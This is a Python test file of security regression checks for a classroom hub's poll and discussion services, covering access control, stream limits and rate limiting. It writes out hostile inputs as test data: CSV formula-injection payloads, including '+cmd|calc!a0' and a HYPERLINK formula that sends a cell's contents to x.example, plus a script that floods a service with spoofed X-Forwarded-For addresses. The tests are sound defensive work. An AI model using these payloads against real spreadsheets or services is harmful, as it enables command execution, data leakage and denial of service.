"""Issue 22, holes 6-10 and the leerkring's two weaknesses, against a real hub with real users
(prefix pk): each probe failed before the fix and passes after it. Two courses: "leerplein"
(teachers pkdocent and pkdocent2, students pkanna..pkemma) and "andere" (teacher pkdocx,
student pkbob); pkbeheer is an admin (of "andere", so seeing "leerplein" polls is the admin's
right, not her course's). Every request goes through the hub's proxy, as a browser's would."""

from __future__ import annotations

import csv
import os
import re
import time

import pytest
import requests

from hub_helpers import service_url, as_user, hub_start, login, port_for, reachable_base, stop_course_hub

TEACHER, COLLEAGUE, OTHER_TEACHER, ADMIN = "pkdocent", "pkdocent2", "pkdocx", "pkbeheer"
STUDENTS = ["pkanna", "pkbea", "pkcor", "pkdirk", "pkemma"]
OTHER_STUDENT = "pkbob"
PEILING, LEERKRING = "/services/peiling/", "/services/leerkring/"
pytestmark = [pytest.mark.slow, pytest.mark.skipif(os.geteuid() != 0, reason="the hub spawns system users: root only")]


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    base = reachable_base(tmp_path_factory, "serviceshostile")
    rows = ([(TEACHER, "teacher", "leerplein"), (COLLEAGUE, "teacher", "leerplein"),
             (OTHER_TEACHER, "teacher", "andere"), (ADMIN, "admin", "andere")]
            + [(s, "student", "leerplein") for s in STUDENTS] + [(OTHER_STUDENT, "student", "andere")])
    roster = base / "roster.csv"
    roster.write_text("username,name,role,course\n" + "".join(f"{u},{u},{r},{c}\n" for u, r, c in rows))
    state = base / "state"
    for _ in range(3):  # on a loaded machine the services can outlast `hub start`'s 60 s: start again
        proc = hub_start(roster, state, port_for(8))
        if "did not come up" not in proc.stderr:
            break
    assert proc.returncode == 0, proc.stdout + proc.stderr
    url = re.search(r"Leerplein hub: (\S+)", proc.stdout).group(1).rstrip("/")
    passwords = {r["username"]: r["password"] for r in csv.DictReader((state / "initial-passwords.csv").open())}
    hub = {"url": url, "state": state, "passwords": passwords, "users": [u for u, _, _ in rows]}
    yield hub
    stop_course_hub(hub)


def xsrf(session: requests.Session, prefix: str = PEILING) -> str:
    return session.cookies.get("_xsrf", path=prefix)


def new_poll(teacher: requests.Session, hub: dict, questions: str = "", plan: str = "",
             course_only: bool = False) -> str:
    home = teacher.get(f"{service_url(hub, 'peiling')}/begeleider")
    assert home.status_code == 200 and "Peiling voor de begeleider" in home.text, home.text[:300]
    data = {"_xsrf": xsrf(teacher), **({"plan": plan} if plan else {"titel": "Proef", "vragen": questions})}
    if course_only:
        data["alleen_cursus"] = "ja"
    made = teacher.post(f"{service_url(hub, 'peiling')}/begeleider", data=data)
    return re.search(r"Code <strong>([A-Z0-9]{6})", made.text).group(1)


def answer(session: requests.Session, hub: dict, code: str, value: str, question: str | None = None):
    page = session.get(f"{service_url(hub, 'peiling')}/p/{code}")
    if page.status_code != 200:
        return page
    vraag = question or re.search(r'name="vraag" value="(\d+)"', page.text).group(1)
    return session.post(f"{service_url(hub, 'peiling')}/p/{code}", data={"_xsrf": xsrf(session), "vraag": vraag,
                                                                  "antwoord": value})


def first_event(response: requests.Response) -> str:
    try:
        return next(line for line in response.iter_lines(decode_unicode=True) if line.startswith("data:"))
    finally:
        response.close()


def test_a_course_only_poll_is_for_its_course_only(hub):
    """Hole 9: stream and projector check `alleen_cursus`; membership is the poll's course."""
    teacher = login(hub, TEACHER)
    code = new_poll(teacher, hub, "open: Wat neem je mee uit je praktijk?", course_only=True)
    secret = "Mijn buurvrouw Fatma durft niet naar de schuldhulp"
    anna = login(hub, "pkanna")
    assert "Je antwoord is ontvangen" in answer(anna, hub, code, secret).text
    session = teacher.get(f"{service_url(hub, 'peiling')}/begeleider/{code}")
    handle = re.search(r'name="antwoord" value="([0-9a-f]{16})"', session.text).group(1)
    teacher.post(f"{service_url(hub, 'peiling')}/begeleider/{code}", data={"_xsrf": xsrf(teacher), "antwoord": handle,
                                                                    "actie": "goedkeuren"})
    # a member of the course follows it live and on the screen
    assert secret in first_event(anna.get(f"{service_url(hub, 'peiling')}/p/{code}/stroom", stream=True, timeout=10))
    assert secret in anna.get(f"{service_url(hub, 'peiling')}/scherm/{code}").text

    # a guest without any cookie: no stream, no screen (the hub's login instead)
    guest = requests.get(f"{service_url(hub, 'peiling')}/p/{code}/stroom", stream=True, timeout=10)
    assert guest.status_code == 403 and secret not in guest.text
    screen = requests.get(f"{service_url(hub, 'peiling')}/scherm/{code}", timeout=10)
    assert secret not in screen.text and "/hub/login" in screen.url

    # a student of another course is logged in on the same hub, and still not a member
    bob = login(hub, OTHER_STUDENT)
    page = bob.get(f"{service_url(hub, 'peiling')}/p/{code}")
    assert page.status_code == 403 and "alleen voor deelnemers van de cursus" in page.text
    posted = bob.post(f"{service_url(hub, 'peiling')}/p/{code}", data={"_xsrf": xsrf(bob), "vraag": "0",
                                                               "antwoord": "Ik doe toch mee"})
    assert posted.status_code == 403
    stream = bob.get(f"{service_url(hub, 'peiling')}/p/{code}/stroom", stream=True, timeout=10)
    assert stream.status_code == 403 and secret not in stream.text
    screen = bob.get(f"{service_url(hub, 'peiling')}/scherm/{code}")
    assert screen.status_code == 403 and secret not in screen.text
    # the teacher of another course is no member either
    other = login(hub, OTHER_TEACHER)
    assert other.get(f"{service_url(hub, 'peiling')}/scherm/{code}").status_code == 403
    pending = teacher.get(f"{service_url(hub, 'peiling')}/begeleider/{code}").text
    assert "Ik doe toch mee" not in pending


def test_a_poll_belongs_to_its_course(hub):
    """Hole 10: a teacher of another course cannot see, open, export, close or delete a poll;
    a colleague of the same course and an admin can."""
    teacher = login(hub, TEACHER)
    code = new_poll(teacher, hub, plan="evaluatie")
    emma = login(hub, "pkemma")
    page = emma.get(f"{service_url(hub, 'peiling')}/p/{code}")
    last = str(int(re.search(r"vraag \d+ van (\d+)", page.text).group(1)) - 1)
    pending = "Ik durfde in de les niet te zeggen dat ik zelf schulden heb"
    assert "laatste vraag" in answer(emma, hub, code, pending, question=last).text

    other = login(hub, OTHER_TEACHER)
    base = f"{service_url(hub, 'peiling')}/begeleider"
    assert code not in other.get(base).text
    for path in (f"/{code}", f"/{code}/export.csv", f"/{code}/export.png"):
        r = other.get(base + path)
        assert r.status_code == 403 and "andere cursus" in r.text and pending not in r.text, path
    stream = other.get(f"{service_url(hub, 'peiling')}/p/{code}/stroom", stream=True, timeout=10)
    assert stream.status_code == 403
    stream.close()
    other.get(base)
    for action in ({"actie": "volgende"}, {"actie": "sluiten"}, {"actie": "verwijderen", "bevestig": code}):
        r = other.post(f"{base}/{code}", data={"_xsrf": xsrf(other), **action})
        assert r.status_code == 403, action
    mine = teacher.get(f"{base}/{code}")
    assert mine.status_code == 200 and "· open ·" in mine.text and "gemaakt door pkdocent" in mine.text
    assert code in teacher.get(base).text

    # shared with the course's other teacher; an admin sees every poll
    for name in (COLLEAGUE, ADMIN):
        s = login(hub, name)
        assert code in s.get(base).text, name
        assert s.get(f"{base}/{code}").status_code == 200, name
        assert s.get(f"{base}/{code}/export.csv").status_code == 200, name


def test_one_client_cannot_take_every_stream(hub):
    """Hole 6: per device 4 streams, without a cookie 20 per address (spoofed headers change
    nothing); another participant, in the same poll and in another one, still gets hers."""
    teacher = login(hub, TEACHER)
    code = new_poll(teacher, hub, "keuze: Wie begint? | Ik | Jij")
    other_code = new_poll(teacher, hub, "schaal: Hoe gaat het?")
    stream_url = f"{service_url(hub, 'peiling')}/p/{code}/stroom"
    held = []
    try:
        hostile = requests.Session()
        hostile.get(f"{service_url(hub, 'peiling')}/p/{code}")
        mine = []
        for _ in range(8):
            held.append(hostile.get(stream_url, stream=True, timeout=10))
            mine.append(held[-1].status_code)
        assert mine.count(200) == 4 and mine.count(429) == 4, mine
        anonymous = []
        for i in range(25):
            spoof = f"10.66.{i}.{i + 1}"
            held.append(requests.get(stream_url, stream=True, timeout=10,
                                     headers={"X-Real-IP": spoof, "X-Forwarded-For": spoof}))
            anonymous.append(held[-1].status_code)
        assert anonymous.count(200) == 20 and anonymous.count(429) == 5, anonymous
        for poll in (code, other_code):
            participant = requests.Session()
            participant.get(f"{service_url(hub, 'peiling')}/p/{poll}")
            r = participant.get(f"{service_url(hub, 'peiling')}/p/{poll}/stroom", stream=True, timeout=10)
            assert r.status_code == 200 and f'"code": "{poll}"' in first_event(r), poll
    finally:
        for r in held:
            r.close()


def test_the_leerkring_hides_which_posts_exist(hub):
    """Weaknesses: a post id above 2^63 is 404 (was 500); a post in another set gets the same
    status and message as one that does not exist."""
    teacher = login(hub, TEACHER)
    teacher.get(f"{service_url(hub, 'leerkring')}/")
    made_a = teacher.post(f"{service_url(hub, 'leerkring')}/", data={"naam": "Kring A", "lid": STUDENTS[:4],
                                                            "_xsrf": xsrf(teacher, LEERKRING)})
    made_b = teacher.post(f"{service_url(hub, 'leerkring')}/", data={"naam": "Kring B", "lid": STUDENTS[1:],
                                                            "_xsrf": xsrf(teacher, LEERKRING)})
    set_a = re.search(r"/kring/(\d+)", made_a.url).group(1)
    set_b = re.search(r"/kring/(\d+)", made_b.url).group(1)
    anna = login(hub, "pkanna")
    anna.get(f"{service_url(hub, 'leerkring')}/kring/{set_a}")
    shared = anna.post(f"{service_url(hub, 'leerkring')}/kring/{set_a}", data={
        "_xsrf": xsrf(anna, LEERKRING), "actie": "vraagstuk", "tekst": "Een bewoner vertrouwt ons niet meer."})
    problem = int(re.search(r'name="post" value="(\d+)"><button name="actie" value="intrekken">Vraagstuk',
                            shared.text).group(1))

    emma = login(hub, "pkemma")  # only in set B
    emma.get(f"{service_url(hub, 'leerkring')}/kring/{set_b}")

    def probe(action: str, post) -> tuple[int, str]:
        r = emma.post(f"{service_url(hub, 'leerkring')}/kring/{set_b}", data={
            "_xsrf": xsrf(emma, LEERKRING), "actie": action, "post": str(post), "tekst": "Wat bedoel je precies?",
            "toch": "ja"})
        found = re.search(r'<p class="probleem" role="alert">([^<]*)</p>', r.text)
        return r.status_code, found.group(1) if found else r.text[:200]

    for action in ("intrekken", "hielp", "verbergen", "vraag"):
        there, missing, huge = probe(action, problem), probe(action, problem + 10_000), probe(action, 2**64 + 1)
        assert there == missing == huge, (action, there, missing, huge)
        assert there[0] == 404, (action, there)
    assert "vertrouwt ons" in anna.get(f"{service_url(hub, 'leerkring')}/kring/{set_a}").text  # nothing changed


def test_the_csv_export_holds_no_formulas(hub):
    """Hole 8: a guest's word-cloud word and an approved open answer reach the teacher's
    'Excel-ready' CSV as text with a leading apostrophe, never as a formula."""
    teacher = login(hub, TEACHER)
    code = new_poll(teacher, hub, "woorden: Welk woord past?\nopen: Wat neem je mee?")
    for word in ("=1+1", "+cmd|calc!a0"):
        assert "Je antwoord is ontvangen" in answer(requests.Session(), hub, code, word).text
    base = f"{service_url(hub, 'peiling')}/begeleider/{code}"
    teacher.get(base)
    teacher.post(base, data={"_xsrf": xsrf(teacher), "actie": "volgende"})
    link = '=HYPERLINK("http://x.example/?"&A1;"klik")'
    assert "Je antwoord is ontvangen" in answer(requests.Session(), hub, code, link).text
    handle = re.search(r'name="antwoord" value="([0-9a-f]{16})"', teacher.get(base).text).group(1)
    teacher.post(base, data={"_xsrf": xsrf(teacher), "antwoord": handle, "actie": "goedkeuren"})
    exported = teacher.get(f"{base}/export.csv")
    assert exported.status_code == 200
    rows = list(csv.reader(exported.content.decode("utf-8-sig").splitlines(), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert "'=1+1" in cells and "'+cmd|calc!a0" in cells and "'" + link in cells, rows
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], rows


def test_spoofed_addresses_do_not_multiply_devices(hub):
    """Hole 7: X-Real-IP and X-Forwarded-For from the client no longer make every request a new
    address: new devices stay capped per real address (a bucket of 200, or 1,500 where the
    facilitator opened her screen, refilling 1 a second), so one client cannot fill a question's
    answer cap. Runs late: it uses up this address's new devices."""
    teacher = login(hub, TEACHER)
    code = new_poll(teacher, hub, "keuze: Eens? | Ja | Nee")
    url = f"{service_url(hub, 'peiling')}/p/{code}"
    statuses = []
    began = time.monotonic()
    with requests.Session() as pool:
        for i in range(1700):
            spoof = f"10.{i // 250}.{i % 250}.7"
            r = pool.get(url, headers={"X-Real-IP": spoof, "X-Forwarded-For": spoof}, timeout=10)
            statuses.append(r.status_code)
            pool.cookies.clear()
            if r.status_code == 429:
                break
    allowed = 1500 + (time.monotonic() - began) + 1  # the largest bucket, and its refill meanwhile
    assert 429 in statuses and statuses.count(200) <= allowed, (len(statuses), statuses.count(200))


DIRECT = """
import sys, urllib.error, urllib.request
codes = []
for i in range(1700):
    spoof = "10.%d.%d.9" % (i // 250, i % 250)
    request = urllib.request.Request(sys.argv[1], headers={"X-Forwarded-For": spoof, "X-Real-IP": spoof})
    try:
        codes.append(urllib.request.urlopen(request, timeout=10).status)
    except urllib.error.HTTPError as err:
        codes.append(err.code)
        if err.code == 429:
            break
print(codes.count(200), 429 in codes)
"""


def test_a_students_own_code_cannot_vouch_for_addresses(hub):
    """Hole 7 from inside: pkanna's own process connects to Peiling's port on 127.0.0.1, past
    the proxy, and writes X-Forwarded-For herself. Only a local socket of the proxy's uid (root)
    vouches for an address, so hers count as 127.0.0.1 and new devices stay capped."""
    began = time.monotonic()
    teacher = login(hub, TEACHER)
    code = new_poll(teacher, hub, "keuze: Eens? | Ja | Nee")
    peiling_port = int(hub["url"].rsplit(":", 1)[1]) + 4  # hub settings: the hub's port + 4
    done = as_user("pkanna", "/usr/bin/python3", "-c", DIRECT,
                   f"http://127.0.0.1:{peiling_port}/services/peiling/p/{code}", timeout=300)
    made, limited = done.stdout.split()
    allowed = 1500 + (time.monotonic() - began) + 1  # 127.0.0.1's bucket at most, and its refill meanwhile
    assert limited == "True" and int(made) <= allowed, done.stdout + done.stderr
